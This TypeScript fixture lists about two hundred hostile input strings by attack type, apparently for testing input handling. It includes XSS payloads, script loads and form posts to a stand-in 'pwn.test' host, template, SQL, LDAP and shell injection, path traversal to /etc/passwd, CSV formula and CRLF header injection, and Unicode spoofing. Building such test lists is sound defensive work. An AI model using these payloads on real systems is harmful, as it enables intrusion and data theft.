/**
 * Two hundred names that are attacks or accidents, by what they attack. Each is data, and is shown as it is or refused with words. What
 * they would run calls `pwn`, and what they would draw is called so, so that none of it can be taken for ours.
 */
/* biome-ignore-all lint/suspicious/noTemplateCurlyInString: it is data */

const ELEMENTS = [
  '<script>pwn(1)</script>',
  '<ScRiPt >pwn(2)</sCrIpT\t>',
  '<script src=//pwn.test/x.js></script>',
  '<script type="speculationrules">{"prefetch":[{"urls":["//pwn.test"]}]}</script>',
  '<img src=x onerror=pwn(3)>',
  '<img/src/onerror=pwn(4)//',
  '<svg onload=pwn(5)>',
  '<svg><script>pwn(6)</script></svg>',
  '<svg><animate onbegin=pwn(7) attributeName=x></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=pwn onload=pwn(8)>#pwn"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=pwn(9)>',
  '<iframe srcdoc="<script>pwn(10)</script>"></iframe>',
  '<object data="data:text/html,<script>pwn(11)</script>">',
  '<embed src="javascript:pwn(12)">',
  '<base href="//pwn.test/">',
  '<link rel=stylesheet href=//pwn.test/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:pwn(13)">',
  '<style>@import "//pwn.test/x.css";*{display:none}</style>',
  '<form action=//pwn.test><button>Sign in</button></form>',
  '<input name=csrf value=pwn autofocus onfocus=pwn(14)>',
  '<details open ontoggle=pwn(15)>',
  '<marquee onstart=pwn(16)>',
  '<video><source onerror=pwn(17)></video>',
  '<template><pwn-box></pwn-box></template>',
  '<noscript><p title="</noscript><img src=x onerror=pwn(18)>">',
  '<a href="javascript:pwn(19)">more</a>',
  '<pwn-box id=pwn>',
  '</p></div></main><h1>pwn</h1>',
];

const WAYS_OUT = [
  '</script><script>pwn(20)</script>',
  '</title><script>pwn(21)</script>',
  '</textarea><script>pwn(22)</script>',
  '</style><script>pwn(23)</script>',
  '</select><img src=x onerror=pwn(24)>',
  '</option></datalist><svg onload=pwn(25)>',
  '</svg><script>pwn(26)</script>',
  '</template></noscript></xmp><pwn-box>',
  '--><script>pwn(27)</script>',
  '<!--<script>',
  ']]><pwn-box>',
  '<?pwn version="1.0"?>',
  '<!DOCTYPE pwn [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
  '<plaintext>',
];

const ATTRIBUTES = [
  '"><img src=x onerror=pwn(28)>',
  "'><img src=x onerror=pwn(29)>",
  '" onmouseover="pwn(30)',
  "' onfocus='pwn(31)' autofocus='",
  '` onfocus=`pwn(32)`',
  '" autofocus onfocus=pwn(33) x="',
  ' onclick=pwn(34) ',
  '" style="position:fixed;inset:0;background:red',
  '" formaction="//pwn.test" x="',
  '" srcdoc="<script>pwn(35)</script>',
  '&quot; onload=&quot;pwn(36)',
  '&#34;&#62;&#60;img src=x onerror=pwn(37)&#62;',
  '&lt;script&gt;pwn(38)&lt;/script&gt;',
  '&amp;lt;b&amp;gt; &nbsp;&copy &notit; &#0; &#x110000;',
  '=pwn', // An attribute without quotes.
  '/>',
];

const HTMX_AND_ALPINE = [
  '" hx-get="//pwn.test" hx-trigger="load',
  '" hx-on:click="pwn(39)',
  '" hx-on::load="pwn(40)',
  '" data-hx-vals="js:{a:pwn(41)}',
  'js:pwn(42)',
  'javascript:{a:pwn(43)}',
  '<div hx-get=/admin/users hx-trigger=load></div>',
  '<hx-partial hx-target="body">pwn</hx-partial>',
  '" x-data="{a:1}" x-init="pwn(44)',
  '" @click="pwn(45)',
  '" :href="pwn(46)',
  '<template x-if="true"><pwn-box></pwn-box></template>',
  "$el.ownerDocument.defaultView.pwn('47')",
  '{{constructor.constructor("pwn(48)")()}}',
];

const TEMPLATES = [
  '<%= 7*7 %>',
  '<%~ 7*7 %>',
  '<% throw new Error("pwn") %>',
  '<%= process.env.PATH %>',
  '%><%= it %>',
  '{{7*7}}',
  '${7*7}',
  '#{7*7}',
  '*{7*7}',
  '{%print(49)%}',
  '{{= 7*7 }}',
  '[[${7*7}]]',
  '@(7*7)',
  '{1} {0} {name} {count, plural, one {#} other {#}}',
  '%s %d %n %x %1$s',
  "$& $1 $` $' $$",
];

const ADDRESSES = [
  'javascript:pwn(49)',
  'JaVaScRiPt:pwn(50)',
  'java\tscript:pwn(51)',
  '\u0001javascript:pwn(52)',
  ' javascript:pwn(53)',
  'javascript&colon;pwn(54)',
  'data:text/html,<script>pwn(55)</script>',
  'vbscript:pwn(56)',
  'blob:https://pwn.test/1',
  '//pwn.test/x',
  '\\\\pwn.test\\share',
  'https://pwn.test/?a=b&c=d#e',
  'https://user:word@pwn.test',
  '?f=e30&a=1;b=2',
  '#map-side',
  'a/b?c=d&e=f#g%2Fh',
  '100% %zz %00 %2e%2e%2f %u0061',
  'a+b c',
];

const PATHS = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '....//....//etc/passwd',
  '%2e%2e%2fetc%2fpasswd',
  '..%c0%af..%c0%afetc/passwd',
  '/etc/passwd',
  'file:///etc/passwd',
  'C:\\CON',
  'aux.csv',
  '.',
  '..',
  '~root/.ssh/authorized_keys',
  '.htaccess',
  'log.csv::$DATA',
  'log.csv\u2215..\u2215x',
];

const STATEMENTS = [
  "' or '1'='1",
  "'; drop table users; --",
  '" or ""="',
  "') union select login, password from users --",
  "1' and (select count(*) from sqlite_master)>0 --",
  "x'||(select 'pwn')||'",
  "'; attach '/tmp/pwn.db' as pwn; --",
  "read_text('/etc/passwd')",
  "\"; copy cases to '/tmp/pwn.csv'; --",
  '%_\\%',
  'case"; select 1; --',
  '*)(uid=*))(|(uid=*',
  'CN=Smith\\, John (EXT),OU=#1+x=y',
  "' or count(//user)=1 or ''='",
  '{"$ne":null}',
  '`id`; $(id) | id && id > /tmp/pwn',
];

const SCRIPTS_AND_DATA = [
  "'-pwn(57)-'",
  '"-pwn(58)-"',
  '\\"-pwn(59)//',
  '`${pwn(60)}`',
  'a\u2028b\u2029c',
  '\\u003cscript\\u003epwn(61)\\u003c/script\\u003e',
  '{"a":"\\',
  '"}],"isAdmin":true,"x":[{"y":"',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'toString',
  'null',
  'undefined',
  'NaN',
  'true',
  '[object Object]',
  '0x1F 1e999 -0',
];

const STYLES = [
  'red;background:url(//pwn.test/x)',
  'expression(pwn(62))',
  '}*{display:none}',
  '\\3c script\\3e',
  'url("javascript:pwn(63)")',
  '@import url(//pwn.test)',
];

const SHEETS = [
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("//pwn.test","more")',
  '-2+3+cmd|calc!A0',
  '+1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\uff1d1+1',
  '"=1+1',
  'a,b;c\td|e',
  '=\u200b1+1',
];

const LINES_AND_HEADERS = [
  'a\r\nSet-Cookie: pwn=1',
  'a\nb',
  'a\rb',
  'a%0d%0aLocation:%20//pwn.test',
  'x\r\nBcc: all@pwn.test\r\n\r\npwn',
  'x"; filename="pwn.exe',
  'x"\r\nContent-Type: text/html\r\n\r\n<script>pwn(64)</script>',
  '=?utf-8?q?=0d=0aBcc:pwn?=',
  '2026-01-01T00:00:00Z ERROR pwn',
  '\u001b[31mpwn\u001b[0m \u001b]0;pwn\u0007',
];

const LETTERS = [
  'right \u202eto left\u202c again',
  '\u2067\u202ecod.exe\u2069',
  'nothing\u200b\u200bbetween\u2060words\ufeff',
  'a\u0001b\u001fc\u2400',
  'a\u0000b',
  'a\u0085b\u009fc',
  '\u0000',
  '\ufffe\uffff',
  'broken \ud83e half',
  '👩‍👩‍👧‍👦🧪 é e\u0301 ﷽',
  'Z\u0351\u036b\u0343\u036a\u0302a\u034f\u0315l\u0334g\u0321o\u0327'.repeat(6),
  'аdmin', // The first letter is Cyrillic.
  'ﬁle ＜script＞ ʺ ‹pwn›',
  'ẞ ı İ ſ ǅ ﬃ',
  '测试 テスト مرحبا שלום ไทย',
  '\u3000',
  '\u00a0',
  ' ',
  '  two  spaces  ',
  '\u{e0001}\u{e0041}tag',
  '𒐫𒈙⸻꧅',
];

const LENGTHS = ['W'.repeat(119), '<'.repeat(119), '🧪'.repeat(59), '\u0301'.repeat(119), `a${' b'.repeat(58)}`];

export const BY_ATTACK = {
  ...{ ELEMENTS, WAYS_OUT, ATTRIBUTES, HTMX_AND_ALPINE, TEMPLATES, ADDRESSES, PATHS, STATEMENTS },
  ...{ SCRIPTS_AND_DATA, STYLES, SHEETS, LINES_AND_HEADERS, LETTERS, LENGTHS },
} as const;

export const HOSTILE_NAMES: readonly string[] = Object.values(BY_ATTACK).flat();
